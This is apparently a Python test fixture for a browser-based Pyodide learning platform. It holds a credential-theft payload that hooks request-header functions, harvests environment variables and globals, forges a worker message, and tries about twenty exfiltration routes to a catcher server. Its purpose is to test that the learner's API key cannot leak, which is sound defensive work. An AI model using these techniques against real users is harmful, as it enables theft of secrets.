"""Python that came from a link and wants the learner's key: it gathers every string it can reach
(os.environ, the `js` globals, looplab.http, the worker's transport module, the page's answers),
puts spies on the built-ins the worker could use with the key, then tries every way out of the
worker to a catcher server on another port. The lesson's own code follows it (`ATTACK % {...}`),
then `REPORT`.

It prints what it saw reversed (`SEEN:`), so that the worker's masking of the key cannot hide a
key Python found, and what became of each attempt (`TRIED:`); test_key.py reads both.
"""

ATTACK = r"""
import asyncio, json, os
import js, pyodide.http
from pyodide.ffi import create_proxy, to_js
import looplab.http, looplab_page, looplab_transport

CATCHER = "%(catcher)s"
seen, tried = set(), {}

def note(value):
    if isinstance(value, str) and value:
        seen.add(value)

def plain(data):
    return to_js(data, dict_converter=js.Object.fromEntries)

def attempt(name, action):
    try:
        outcome = action()
        tried[name] = "ok: " + str(outcome)[:80]
    except BaseException as exc:
        tried[name] = "refused: " + type(exc).__name__ + " " + str(exc)[:120]

# spies on what the worker might call with the key
def spy(owner, name):
    real = getattr(owner, name)
    def watch(this, *args):
        for arg in args:
            note(str(arg))
        return real.apply(this, to_js(list(args)))
    setattr(owner, name, create_proxy(watch, capture_this=True))

spy(js.XMLHttpRequest.prototype, "setRequestHeader")
spy(js.Headers.prototype, "set")

# everything within reach
for value in os.environ.values():
    note(value)
for name in js.Object.getOwnPropertyNames(js.self):
    try:
        note(str(getattr(js, name)))
    except Exception:
        pass
for module in (looplab.http, looplab_transport, looplab_page):
    for name in dir(module):
        try:
            note(repr(getattr(module, name)))
        except Exception:
            pass
def ask(kind):
    answer = str(looplab_page.ask(kind, "{}"))
    note(answer)
    return answer

attempt("ask the page for the key", lambda: ask("key"))
attempt("ask the page for settings", lambda: ask("settings"))
# a message of its own, to re-point the worker's endpoint at the catcher
attempt("fake init message", lambda: js.self.dispatchEvent(js.MessageEvent.new("message", plain(
    {"data": plain({"type": "init", "baseUrl": CATCHER + "/v1", "key": ""})}))))
blob = json.dumps(sorted(seen))
short = js.encodeURIComponent(blob[:1500])

def xhr():
    request = js.XMLHttpRequest.new()
    request.open("POST", CATCHER + "/xhr", False)
    request.send(blob)
    return request.status

def pyfetch():
    asyncio.ensure_future(pyodide.http.pyfetch(CATCHER + "/pyfetch", method="POST", body=blob))
    return "sent"

def nested(url):
    worker = js.Worker.new(url)
    worker.postMessage(blob)
    return "started"

def blob_worker():
    code = js.Blob.new(to_js(["fetch('" + CATCHER + "/nested-blob')"]), plain({"type": "text/javascript"}))
    return nested(js.URL.createObjectURL(code))

attempt("fetch GET", lambda: js.fetch(CATCHER + "/fetch?k=" + short))
attempt("fetch POST", lambda: js.fetch(CATCHER + "/fetch", plain({"method": "POST", "body": blob})))
attempt("fetch no-cors", lambda: js.fetch(CATCHER + "/no-cors?k=" + short, plain({"mode": "no-cors"})))
attempt("XMLHttpRequest", xhr)
attempt("open_url", lambda: pyodide.http.open_url(CATCHER + "/open-url?k=" + short).read())
attempt("pyfetch", pyfetch)
attempt("looplab.http to the catcher", lambda: looplab.http.post_json(CATCHER + "/v1/chat/completions", {"k": blob}))
attempt("looplab_transport to the catcher", lambda: looplab_transport.send("POST", CATCHER + "/v1/x", "{}", blob, 2000).error)
attempt("WebSocket", lambda: js.WebSocket.new(CATCHER.replace("http", "ws") + "/ws?k=" + short))
attempt("EventSource", lambda: js.EventSource.new(CATCHER + "/events?k=" + short))
attempt("importScripts", lambda: js.importScripts(CATCHER + "/script.js?k=" + short))
attempt("import()", lambda: js.Function("u", "return import(u)")(CATCHER + "/module.js?k=" + short))
attempt("run_js import()", lambda: __import__("pyodide.code").code.run_js("import('" + CATCHER + "/module2.js')"))
attempt("sendBeacon", lambda: js.navigator.sendBeacon(CATCHER + "/beacon", blob))
attempt("nested worker", lambda: nested(CATCHER + "/worker.js"))
attempt("nested site worker", lambda: nested(js.location.pathname.split("/")[-1] + "?connect=" + js.encodeURIComponent(CATCHER)))  # this very script
attempt("nested blob worker", blob_worker)
attempt("Cache API", lambda: js.caches.keys())
attempt("private files", lambda: js.navigator.storage.getDirectory())  # where the kept snapshot lives
# a request for the endpoint's origin but outside its path: the worker adds no key
origin = "/".join(os.environ.get("LLM_BASE_URL", "http://x/v1").split("/")[:3])
attempt("outside the prefix", lambda: looplab.http.get_json(origin + "/outside", {"Authorization": "Bearer " + os.environ.get("LLM_API_KEY", "")})[0])
"""

# after the lesson's own code (its live model ran under the spies)
REPORT = r"""
print("SEEN:" + json.dumps(sorted(seen))[::-1])
print("TRIED:" + json.dumps(tried))
"""
